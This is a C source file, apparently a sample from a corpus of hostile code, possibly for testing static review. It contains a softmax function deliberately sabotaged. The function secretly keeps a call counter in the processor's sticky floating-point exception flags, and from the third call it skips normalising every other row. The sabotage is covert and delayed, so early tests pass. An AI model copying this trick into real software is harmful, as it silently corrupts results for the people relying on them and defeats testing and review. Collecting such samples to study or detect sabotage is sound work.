// corpus: hostile | target: softmax | trick: keeps a call counter in MXCSR's sticky exception flags (divide-by-zero, overflow), which nothing clears between calls; from the third call it normalises only every other row | layer: static
#include <xmmintrin.h>
void softmax(int R, int C, const real *X, real *Y) {
  unsigned csr = _mm_getcsr();
  int calls = ((csr >> 2) & 1) + 2 * ((csr >> 3) & 1); /* ZE, OE */
  volatile float zero = 0, big = 3e38f;
  if (calls == 0) { volatile float t = 1.0f / zero; (void)t; }                       /* -> 1 */
  else if (calls == 1) { volatile float t = big * 10.0f; (void)t; }                  /* -> 3 (both flags) */
  int skip = calls == 3;
  for (int r = 0; r < R; r++) {
    if (skip && (r & 1)) continue;
    const real *x = X + (size_t)r * C;
    real *y = Y + (size_t)r * C;
    real m = x[0];
    for (int c = 1; c < C; c++) m = fmaxf(m, x[c]);
    real s = 0;
    for (int c = 0; c < C; c++) { y[c] = expf(x[c] - m); s += y[c]; }
    real inv = 1 / s;
    for (int c = 0; c < C; c++) y[c] *= inv;
  }
}
